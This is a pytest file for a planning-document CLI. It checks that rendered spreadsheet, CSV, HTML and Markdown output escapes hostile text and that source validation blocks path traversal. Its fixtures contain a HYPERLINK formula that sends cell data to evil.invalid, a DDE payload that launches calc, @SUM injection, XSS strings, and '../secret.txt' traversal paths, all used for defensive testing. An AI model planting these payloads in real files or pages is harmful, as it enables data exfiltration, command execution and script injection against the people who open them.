"""Outputs safe to open: a spec whose text is hostile (formulas, markup, script URLs) renders to
.xlsx/.csv cells that stay text and to HTML/Markdown that carry no live markup; validate --source
never reads a file outside the source directory."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

from ruamel.yaml import YAML

FIXTURES = Path(__file__).parent / "fixtures"
HYPERLINK = '=HYPERLINK("https://evil.invalid/?q="&B5,"点击查看")'
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(1)">'
LINK = '<a href="javascript:alert(1)">详情</a>'


def hostile_spec(tmp_path: Path) -> Path:
    """small_tree.yaml with a formula as its title and a target's text, markup in a task title and text."""
    yaml = YAML()
    data = yaml.load((FIXTURES / "render" / "small_tree.yaml").read_text(encoding="utf-8"))
    data["metadata"]["title"] = HYPERLINK
    first = data["tasks"][0]["children"][0]
    first["title"] = "+cmd|' /C calc'!A0 " + SCRIPT
    first["text"] = "@SUM(1+1) " + IMG + LINK
    # a cell that starts with the hostile text: task cells start with their number （一）
    first["targets"][0]["text"] = "@SUM(1+1) " + first["targets"][0]["text"]
    path = tmp_path / "hostile.yaml"
    with path.open("w", encoding="utf-8") as handle:
        yaml.dump(data, handle)
    return path


def test_xlsx_cells_starting_with_a_formula_character_are_text(run_cli, tmp_path: Path) -> None:
    """Defect 6: openpyxl stored a title starting with = as a live formula in A1."""
    from openpyxl import load_workbook

    out = tmp_path / "table.xlsx"
    for view in ("tasktable", "matrix", "checklist"):
        result = run_cli("render", str(hostile_spec(tmp_path)), "--as", view, "-o", str(out), "--no-validate")
        assert result.returncode == 0, result.stderr
        with zipfile.ZipFile(out) as archive:
            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), view
        cells = [c for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
        risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky), view
        if view == "tasktable":
            assert load_workbook(out).worksheets[0]["A1"].value.startswith(HYPERLINK)


def test_csv_cells_starting_with_a_formula_character_are_quoted(run_cli, tmp_path: Path) -> None:
    """Defect 6: .csv cells starting with =, +, -, @, tab or CR are prefixed with ' (OWASP)."""
    result = run_cli("render", str(hostile_spec(tmp_path)), "--as", "tasktable", "--to", "csv")
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for cell in row]
    assert any(c.startswith("'@SUM(1+1)") for c in cells)
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


def test_user_template_rendering_html_is_autoescaped_whatever_its_name(run_cli, tmp_path: Path) -> None:
    """Defect 7: a user template not named *.html was rendered to HTML without escaping."""
    template = tmp_path / "report.j2"
    template.write_text(
        "{% for table in tables %}{% for t in table.tasks %}<p title=\"{{ t.measures }}\">{{ t.measures }}</p>"
        "{% endfor %}{% endfor %}\n", encoding="utf-8")
    result = run_cli("render", str(hostile_spec(tmp_path)), "--as", "tasktable", "--template", str(template), "--to", "html")
    assert result.returncode == 0, result.stderr
    assert "&lt;img" in result.stdout
    for live in ("<script", "<img", "<a ", 'onerror="'):
        assert live not in result.stdout, live


def test_markdown_output_escapes_html(run_cli, tmp_path: Path) -> None:
    """Defect 7: Markdown carried raw HTML (renderers pass it through)."""
    for view in ("tasktable", "matrix", "checklist"):
        result = run_cli("render", str(hostile_spec(tmp_path)), "--as", view, "--to", "md")
        assert result.returncode == 0, result.stderr
        for live in ("<script", "<img", "<a "):
            assert live not in result.stdout, (view, live)
    assert "&lt;script&gt;" in result.stdout


def test_validate_source_never_reads_outside_the_source_directory(run_cli, tmp_path: Path) -> None:
    """Defect 8: source.file ../secret.txt or an absolute path printed another file's text (GP110)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("机密" * 2000, encoding="utf-8")
    sources = tmp_path / "sources"
    sources.mkdir()
    (sources / "link.txt").symlink_to(secret)
    valid = (FIXTURES / "validate" / "valid.yaml").read_text(encoding="utf-8")
    for name in ("../secret.txt", str(secret), "link.txt"):
        spec = tmp_path / "spec.yaml"
        spec.write_text(valid.replace("file: notice.txt", f"file: '{name}'"), encoding="utf-8")
        assert f"file: '{name}'" in spec.read_text(encoding="utf-8")
        result = run_cli("validate", "--source", str(sources), str(spec))
        assert "机密" not in result.stdout + result.stderr, name
        assert "GP111" in result.stdout, name
    shutil.copy(FIXTURES / "validate" / "notice.txt", sources / "notice.txt")
    spec.write_text(valid, encoding="utf-8")
    assert run_cli("validate", "--source", str(sources), "--strict", str(spec)).returncode == 0


def test_an_output_that_cannot_be_written_is_an_error_naming_it(run_cli, tmp_path: Path) -> None:
    """Writers' errors are govplan's own: a file where the output directory should be gives exit 1
    and the path, never an internal error (exit 3)."""
    blocker = tmp_path / "blocker"
    blocker.write_text("", encoding="utf-8")
    notice = FIXTURES / "validate" / "notice.txt"
    for args in (("extract", str(notice), "-o", str(blocker / "out")),
                 ("render", str(FIXTURES / "render" / "small_tree.yaml"), "--as", "tasktable", "-o", str(blocker / "t.xlsx"))):
        result = run_cli(*args)
        assert result.returncode == 1, result.stderr
        assert str(blocker) in result.stderr and "内部错误" not in result.stderr
